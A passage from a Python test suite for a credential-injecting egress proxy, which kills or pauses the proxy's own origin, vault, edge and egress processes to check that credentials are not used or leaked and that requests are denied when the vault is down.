        CANARIES["anthropic"], SLOTS["api.anthropic.com"] = new, ("x-api-key", new)
        assert raw.ask("GET /new HTTP/1.1\nHost: api.anthropic.com")[0] == 200
    assert old not in json.dumps(got(lab, "/new", "api.anthropic.com"))


def test_an_origin_killed_between_release_and_send_sends_nothing(rig, lab, mark, whole):
    killed = rig.pids()["origin"]
    for pid in killed:
        os.kill(pid, signal.SIGKILL)
    vault = rig.pids()["vault"]
    os.kill(vault, signal.SIGSTOP)
    try:
        with Raw(rig) as raw:
            raw.sock.sendall(f"GET /killed HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
            for _ in range(200):
                # these were possibly not awaited
                origins = [pid for pid in rig.pids()["origin"] if pid not in killed]
                if origins:
                    break
                time.sleep(0.01)
            time.sleep(0.5)  # it has its line and waits for the value
            os.kill(origins[0], signal.SIGSTOP)
            os.kill(vault, signal.SIGCONT)
            mark.wait(kind="credential-use", action="release", host=HOST)
            time.sleep(0.2)
            os.kill(origins[0], signal.SIGKILL)
            assert b" 200 " not in raw.rest()
    finally:
        with contextlib.suppress(OSError):
            os.kill(vault, signal.SIGCONT)
    assert not came(lab, "/killed")
    mark.wait(kind="credential-use", action="use", op="GET /killed",
              reason="may have been used.*ended")


def test_an_egress_killed_makes_no_connection_of_its_own(rig, lab, mark, whole):
    os.kill(rig.pids()["egress"], signal.SIGKILL)
    code, _ = status(rig, f"https://{HOST}/egress")
    assert code in (200, 403, 502), code


def test_an_edge_killed_loses_its_streams_only(rig, lab, whole):
    ca = rig.lines("ca")
    with Raw(rig) as raw:
        os.kill(rig.pids()["edge"], signal.SIGKILL)
        assert raw.rest() == b""
    rig.until_up()
    assert rig.lines("ca") == ca


def test_without_the_vault_nothing_goes_out(rig, lab, mark, whole):
    with Raw(rig) as raw:
        assert raw.ask(f"GET /before HTTP/1.1\nHost: {HOST}")[0] == 200
        os.kill(rig.pids()["vault"], signal.SIGKILL)
        time.sleep(0.3)
        code, _, _ = raw.ask(f"GET /vaultless HTTP/1.1\nHost: {HOST}")
        assert code in (403, 502, 503), code
    assert curl(rig, f"https://{HOST}/vaultless", check=False).returncode != 0
    assert not came(lab, "/vaultless")
    mark.wait(decision="deny", host=HOST, reason="vault")
    assert rig.command("vault") == "ok"
